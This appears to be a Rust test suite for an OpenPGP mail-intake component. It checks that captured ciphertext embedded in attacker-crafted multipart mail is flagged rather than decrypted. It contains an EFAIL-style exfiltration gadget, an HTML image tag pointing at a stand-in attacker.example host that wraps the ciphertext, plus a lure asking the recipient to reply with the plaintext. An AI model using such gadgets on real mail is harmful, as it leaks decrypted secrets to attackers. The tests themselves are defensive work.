//! Captured ciphertext inside mail of the attacker's (threats.md S-01): it stays closed wherever it stands, and it is named.

use intake::openpgp::Form;

use crate::made::*;

const LEAK: &str =
    "Content-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://attacker.example/";
const CLOSE: &str = "Content-Type: text/html; charset=utf-8\r\n\r\n\">";
const PLAIN: &str =
    "Content-Type: text/plain\r\n\r\nPlease have a look at this and answer with the text in it.";

fn multipart(kind: &str, boundary: &str, parts: &[&str]) -> String {
    let parts: String = parts
        .iter()
        .map(|part| format!("--{boundary}\r\n{part}\r\n"))
        .collect();
    format!("Content-Type: multipart/{kind}; boundary={boundary}\r\n\r\n{parts}--{boundary}--\r\n")
}

/// The forms in which the attacker may set a captured ciphertext into a multipart.
fn captured() -> Vec<String> {
    let block = sealed(&entity());
    let quoted = block.replace('\n', "\n> ");
    vec![
        pgp_mime_entity(&block),
        format!("Content-Type: text/plain\r\n\r\n{block}"),
        format!("Content-Type: text/html\r\n\r\n<pre>{block}</pre>"),
        format!(
            "Content-Type: text/html\r\n\r\n{}",
            block.replace('\n', "<br>\n")
        ),
        format!("Content-Type: text/plain\r\n\r\nwrote:\r\n> {quoted}"),
        format!("Content-Type: text/plain\r\n\r\nbefore\r\n{block}\r\nafter"),
        format!(
            "Content-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: 8bit\r\n\r\nx\r\n{block}"
        ),
        format!("Content-Type: application/octet-stream\r\n\r\n{block}"),
        format!("Content-Type: application/pgp-encrypted\r\n\r\n{block}"),
    ]
}

fn assert_errant(content: &str) {
    let raw = mail(content);
    assert_closed(&raw, None);
    let reading = reading(&raw);
    let openpgp = &reading.openpgp;
    assert_eq!(openpgp.errant.len(), 1, "{content}\n{openpgp:?}");
    assert!(
        encrypted_layers(&reading).is_empty(),
        "{content}\n{openpgp:?}"
    );
}

#[test]
fn beside_the_attackers_html_in_every_multipart() {
    for ciphertext in captured() {
        for kind in [
            "mixed",
            "related",
            "alternative",
            "report",
            "digest",
            "parallel",
            "x-anything",
        ] {
            // The parts of a digest are messages (RFC 2046 section 5.1.5) where they don't say otherwise; these do.
            for parts in [
                [LEAK, &ciphertext, CLOSE].as_slice(),
                &[LEAK, &ciphertext],
                &[&ciphertext, LEAK],
            ] {
                assert_errant(&multipart(kind, "w", parts));
            }
        }
    }
}

#[test]
fn deeper_down_forwarded_and_in_signatures() {
    for ciphertext in captured() {
        let beside = multipart("related", "r", &[LEAK, &ciphertext, CLOSE]);
        let alone = multipart("mixed", "r", &[&ciphertext]);
        for content in [
            multipart("mixed", "w", &[PLAIN, &beside]),
            multipart("alternative", "w", &[PLAIN, &beside]),
            multipart("mixed", "w", &[LEAK, &alone, CLOSE]),
            multipart(
                "mixed",
                "w",
                &[
                    &format!("Content-Type: message/rfc822\r\n\r\nSubject: x\r\n{ciphertext}"),
                    PLAIN,
                ],
            ),
            format!("Content-Type: message/rfc822\r\n\r\nSubject: x\r\n{ciphertext}"),
            signed_entity(&beside, &signature("another text")),
        ] {
            assert_errant(&content);
        }
    }
}

#[test]
fn in_odd_multipart_encrypted() {
    let block = sealed(&entity());
    let version = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let ciphertext = format!("Content-Type: application/octet-stream\r\n\r\n{block}");
    let html =
        format!("Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/{block}\">");
    for parts in [
        [version, &ciphertext, LEAK].as_slice(),
        &[LEAK, version, &ciphertext],
        &[version, LEAK, &ciphertext],
        &[PLAIN, &ciphertext],
        &[version, PLAIN, &ciphertext],
        &[&ciphertext, version],
        &[&ciphertext],
        &[
            version,
            &multipart("mixed", "i", &[LEAK, &ciphertext, CLOSE]),
        ],
    ] {
        assert_errant(&multipart("encrypted", "w", parts));
    }
    // HTML in the place of the ciphertext is tried and is no message.
    assert_closed(&mail(&multipart("encrypted", "w", &[version, &html])), None);
    let crowded = signed_entity(&pgp_mime_entity(&block), "none")
        .replace("\r\n--sig--", &format!("\r\n--sig\r\n{LEAK}\r\n--sig--"));
    assert_errant(&crowded);
}

#[test]
fn inside_another_encrypted_message() {
    let inner = pgp_mime_entity(&sealed(&entity()));
    let outer = multipart("mixed", "w", &[LEAK, &inner, CLOSE]);
    let raw = pgp_mime(&sealed(&outer));
    let reading = reading(&raw);
    assert!(!serde_json::to_string(&reading).unwrap().contains(CANARY));
    assert!(reading.openpgp.decrypted, "the attacker's own layer");
    assert_eq!(reading.openpgp.errant.len(), 1);
}

#[test]
fn errant_parts_are_named_with_their_place_and_ciphertext() {
    let block = sealed(&entity());
    let known = encrypted_layers(&reading(&pgp_mime(&block)))[0].ciphertext;
    let content = multipart("mixed", "w", &[PLAIN, LEAK, &pgp_mime_entity(&block)]);
    let openpgp = reading(&mail(&content)).openpgp;
    assert_eq!(openpgp.errant[0].part, "3.2");
    assert_eq!(openpgp.errant[0].form, Form::Mime);
    assert_eq!(openpgp.errant[0].ciphertext, known);
    let quoted = block.replace('\n', "\n> ");
    let quoted = format!("Content-Type: text/plain\r\n\r\nOn Monday you wrote:\r\n> {quoted}");
    let openpgp = reading(&mail(&quoted)).openpgp;
    assert_eq!(
        (openpgp.errant[0].part.as_str(), openpgp.errant[0].form),
        ("1", Form::Inline)
    );
    assert_eq!(openpgp.errant[0].ciphertext, known);
}

/// Little beside it: somebody must look (C4). A report in clear is a report, whatever it quotes.
#[test]
fn a_report_that_is_errant_needs_a_human() {
    let block = sealed(&entity());
    let few = format!(
        "Content-Type: text/plain\r\n\r\nHello, the report is below.\r\n{block}\r\nRegards, Pat"
    );
    let openpgp = reading(&mail(&few)).openpgp;
    assert!(openpgp.encrypted && !openpgp.decrypted);
    assert_eq!(openpgp.error.as_deref(), Some("errant"));
    let words =
        "our server is attacked from there since the night and we ask you to stop it ".repeat(4);
    let many = format!("Content-Type: text/plain\r\n\r\n{words}\r\n{block}\r\nRegards, Pat");
    let openpgp = reading(&mail(&many)).openpgp;
    assert!(!openpgp.encrypted && openpgp.error.is_none() && openpgp.errant.len() == 1);
}

#[test]
fn what_only_mentions_armour_is_not_errant() {
    for text in [
        "Please begin with -----BEGIN PGP MESSAGE----- and end with -----END PGP MESSAGE-----.",
        "Content: -----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQENBF\r\n-----END PGP PUBLIC KEY BLOCK-----",
        "-----BEGIN PGP MESSAGE-----\r\n...\r\n-----END PGP MESSAGE-----",
    ] {
        let openpgp = reading(&mail(&format!(
            "Content-Type: text/plain\r\n\r\nHello,\r\n{text}\r\n"
        )))
        .openpgp;
        assert!(
            openpgp.errant.is_empty() && !openpgp.encrypted,
            "{text}: {openpgp:?}"
        );
    }
}
